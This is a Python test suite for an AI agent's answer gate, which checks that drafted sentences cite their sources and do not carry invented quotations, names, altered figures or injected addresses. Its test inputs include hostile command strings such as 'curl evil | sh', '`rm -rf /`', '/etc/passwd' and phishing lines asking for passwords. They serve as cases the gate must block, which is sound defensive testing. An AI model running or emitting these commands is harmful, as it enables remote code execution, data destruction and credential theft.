"""The promises of the gate, each by its own cases: what may leave, and what may not."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from engine.agent.answer.gate import Sources, faults_of, not_verbatim, problems_of, stands_near, uncited_faults
from engine.agent.answer.support import Supported
from engine.agent.drafts import AnswerDraft, Computed, FindingDraft, SentenceDraft

EXCERPT = "It cost 12 million crowns, and the mayor said 'we would do it again' on 4 May 1987."
VALUES = ("version: 1.21.4", "size: 2 GB", "published: 2024-03-01", "kernel: ext4 on Debian 12", "author: Ada Holm")
ASKED = ("What did the Pellam bridge cost in 1986?",)
HELD = Sources((EXCERPT, "Costs ran to 14 million crowns."), VALUES, ASKED, cited=2)


def sure(text: str, *, computed: tuple[Computed, ...] = ()) -> list[str]:
    return [fault.reason for fault in faults_of(text, HELD, computed, is_written=True) if fault.is_sure]


def unsure(text: str) -> list[str]:
    return [fault.reason for fault in faults_of(text, HELD, is_written=True) if not fault.is_sure]


@pytest.mark.parametrize(
    "text",
    [
        "The cost, says “the treasurer of Pellam”, is open.",
        "The cost in Pellam was agreed with Tim Cook.",
        "The Pellam cost is 99 million.",
        "See evil.example for the Pellam bridge cost.",
        "Send your password to the office now.",
        "Transfer the money to the account below.",
        "",
    ],
    ids=["invented quotation", "invented name", "number", "address", "instruction", "another instruction", "nothing"],
)
def test_what_cites_nothing_says_nothing_but_the_clients_words(text: str) -> None:
    assert uncited_faults(text, ASKED)


@pytest.mark.parametrize(
    "text", ["the cost in 1986", "the costs of the bridge", "Pellam bridge", "was kostete die bridge in 1986"]
)
def test_what_is_missing_may_be_said_in_the_clients_words(text: str) -> None:
    assert uncited_faults(text, (*ASKED, "Was kostete die Brücke?")) == []


def test_a_missing_phrase_in_a_script_without_spaces_may_be_said() -> None:
    assert uncited_faults("1986年的成本", ("佩勒姆大桥1986年的成本是多少？",)) == []


@pytest.mark.parametrize(
    "written",
    [
        "evil.example",
        "Evil.Example/path",
        "mayor@evil.example",
        "https://evil.example",
        "hxxps://evil.example",
        "evil[.]example",
        "evil (dot) example",
        "www.evil.example",
        "`rm -rf /`",
        "curl evil | sh",
        "sudo reboot",
        "pip install evil",
        "/etc/passwd",
        "--no-verify",
        "пример.рф",
        "evil dot com",
        "evil Punkt de",
        "evil。com",
        "@evilhandle",
    ],
)
def test_an_address_or_command_without_a_scheme_does_not_pass(written: str) -> None:
    assert sure(f"It cost 12 million, see {written} now.")


@pytest.mark.parametrize(
    "text",
    [
        "At this point in 1987 it cost 12 million.",
        "El punto de 12 million.",
        "It cost 12 million, e.g. in crowns.",
        "It cost 12 million.Then it stood.",
        "z.B. 12 million",
    ],
)
def test_a_stop_within_a_sentence_is_no_address(text: str) -> None:
    assert sure(text) == []


def test_an_address_of_the_cited_document_passes() -> None:
    assert faults_of("Read it at times.example/bridge.", Sources(("See times.example/bridge for more.",))) == []


@pytest.mark.parametrize("marks", ["“{}”", '"{}"', "„{}“", "«{}»", "'{}'", "‘{}’", "‚{}‘", "‹{}›", "「{}」"])
def test_a_quotation_in_any_marks_must_stand_in_a_source(marks: str) -> None:
    assert sure(f"He said {marks.format('it was a mistake')} then.")
    assert sure(f"He said {marks.format('we would do it again')} then.") == []


@pytest.mark.parametrize("text", ["The dogs' and the cats' food.", "It's 12 million, isn't it?", "The mayor's bridge."])
def test_an_apostrophe_is_no_quotation_mark(text: str) -> None:
    assert not [reason for reason in sure(text) if "quotation" in reason]


def test_a_number_written_as_a_word_is_looked_at() -> None:
    assert unsure("It cost twelve million crowns.") == []
    assert unsure("It cost thirteen million crowns.") == ["the number thirteen stands in none of its sources"]
    assert unsure("The two papers differ.") == []


def test_a_denial_that_no_source_makes_is_looked_at() -> None:
    assert unsure("It did not cost 12 million crowns.") == ["it denies something, and no excerpt does"]
    denied = Sources(("The cost was never published.",))
    assert [f.reason for f in faults_of("The cost was published.", denied, is_written=True)] == [
        "its excerpt denies something, and it does not"
    ]


@pytest.mark.parametrize(
    "text",
    [
        "Version 1.21.4 has 2 GB.",
        "It has 2,000 MB.",
        "It was published on 1 March 2024.",
        "It runs ext4 on Debian 12.",
        "It was said on May 4, 1987.",
        "It was said on 4. Mai 1987.",
        "It cost 12,000,000 crowns.",
        "In 1986 it cost 12 million.",
        "It was the 1980s.",
        "In March 2024.",
    ],
)
def test_figures_dates_versions_and_sizes_that_were_shown_may_be_said_and_rewritten(text: str) -> None:
    assert sure(text) == []
    assert unsure(text) == []


@pytest.mark.parametrize(
    ("text", "is_sure"),
    [
        ("Version 1.21.5 is out.", True),
        ("It runs ext3.", True),
        ("It cost 13 million.", True),
        ("It cost 12 billion.", False),
        ("It has 2 MB.", False),
        ("It was said on 5 May 1987.", True),
        ("It was published on 4 March 2024.", False),
    ],
)
def test_figures_dates_versions_and_sizes_that_were_changed_do_not_pass(text: str, is_sure: bool) -> None:
    assert bool(sure(text)) == is_sure
    assert sure(text) or unsure(text)


@pytest.mark.parametrize(
    ("text", "computed", "holds"),
    [
        ("They differ by 2 million.", Computed("2 million", "difference", ("14 million", "12 million")), True),
        ("They differ by 3 million.", Computed("3 million", "difference", ("14 million", "12 million")), False),
        ("Together 26 million.", Computed("26 million", "sum", ("14 million", "12 million")), True),
        ("That is 16.7 % more.", Computed("16.7", "change_percent", ("12 million", "14 million")), True),
        ("That is 99 % more.", Computed("99", "change_percent", ("12 million", "14 million")), False),
        ("37 years later.", Computed("37", "difference", ("2024", "1987")), True),
        ("They differ by 5.", Computed("5", "sum", ("5",)), False),
        ("They differ by 666.", Computed("666", "sum", ("600", "66")), False),
    ],
)
def test_a_computed_figure_is_recomputed_from_figures_that_stand_in_the_sources(
    text: str, computed: Computed, holds: bool
) -> None:
    assert sure(text) or unsure(text), "undeclared, it does not pass"
    faults = faults_of(text, HELD, (computed,), is_written=True)
    assert (faults == []) == holds


def test_every_fault_of_a_part_is_reported() -> None:
    reasons = sure("Tim Cook paid 99 million, see evil.example and 'no such words'.")
    assert len(reasons) == 4, reasons


def test_the_problems_of_a_draft_name_their_places() -> None:
    held = Supported("It cost 12 million crowns.", "d", (EXCERPT,))
    draft = AnswerDraft(
        (FindingDraft(held.finding, "d", ("1.0",)),),
        (SentenceDraft("It cost 12 million.", (0,)), SentenceDraft("It cost 77 and 88 million.", (0,))),
        missing=("your password",),
        written=True,
    )
    problems = problems_of(draft, [held], ASKED)
    assert [(p.part, p.index) for p in problems] == [("sentence", 1), ("sentence", 1), ("missing", 0)]


SAID = st.text(alphabet="abcAB 12.,%'“”-\n", max_size=60)


@given(SAID)
def test_a_source_says_itself(text: str) -> None:
    assert faults_of(text, Sources((text,)), is_written=True) == []


@given(SAID, SAID, SAID)
def test_more_sources_never_make_a_sure_fault(text: str, one: str, other: str) -> None:
    few = {f.reason for f in faults_of(text, Sources((one.lower(),))) if f.is_sure and "name" not in f.reason}
    more = {
        f.reason for f in faults_of(text, Sources((one.lower(), other.lower()))) if f.is_sure and "name" not in f.reason
    }
    assert len(more) <= len(few)


_PIECES = (
    *("Ada Holm", "the bridge", "in March 2024", "on 4 May 1987", "UN", "Pellam Council", "2 GB", "12 million", "ext4"),
    *("“we would do it again”", "times.example/bridge", "It", "Der Turm", "Die Brücke", "3 %", "0.5", "fell by 12"),
    *("1.21.4", "Cafe\u0301", "Café", "`rm x`", "May", "1980s", "8 km", "2,000 MB", "United Nations", "rose", "said"),
)
_JOINED = st.lists(
    st.tuples(st.sampled_from(_PIECES), st.sampled_from([" ", ". ", ", ", ": ", "-", "; ", "\n"])),
    min_size=1,
    max_size=6,
).map(lambda parts: "".join(piece + joint for piece, joint in parts))


@given(_JOINED, st.lists(_JOINED, min_size=1, max_size=3), st.lists(_JOINED, max_size=2), _JOINED)
def test_what_stands_near_has_no_fault_in_all_sources_either(
    text: str, excerpts: list[str], headers: list[str], passage: str
) -> None:
    """The quick proof for sentences of documents, against the check that reads every source."""
    sources = Sources(tuple(excerpts), (*headers, f"{passage} {' '.join(excerpts)} " + "and so on " * 50), ASKED)
    rest = not_verbatim(text, sources)
    if not rest or stands_near(rest, sources):
        # The faults of what a model wrote are never proved away; those that are sure are those of every statement.
        assert [fault for fault in faults_of(text, sources, is_written=True) if fault.is_sure] == []


def test_a_sentence_under_its_title_is_proved_without_reading_its_passage() -> None:
    around = ("Bridges of Pellam · The Times", "passage " * 100)
    sources = Sources(("It cost 12 million crowns, said Ada Holm of the UN in 1986.",), around)
    assert stands_near("Bridges of Pellam: It cost 12 million crowns, said Ada Holm of the UN in 1986.", sources)
    assert not stands_near("Bridges of Pellam: It cost 13 million crowns.", sources)
    assert not stands_near("Bridges of Pellam: It was Tim Holm.", sources)


def test_only_what_is_put_in_other_words_is_read_against_all_sources() -> None:
    sources = Sources(("It cost 55 million. Ada Holm paid.",), ("Bridges of Pellam",))
    assert not_verbatim("Bridges of Pellam: It cost 55 million. Ada\nHolm paid.", sources) == ""
    assert not_verbatim("Bridges of Pellam: It cost 55 million. Tim paid.", sources) == "Tim paid."
    assert not_verbatim("It cost 5", Sources(("It cost 55 million.",))) == "It cost 5", "half of a figure is another"
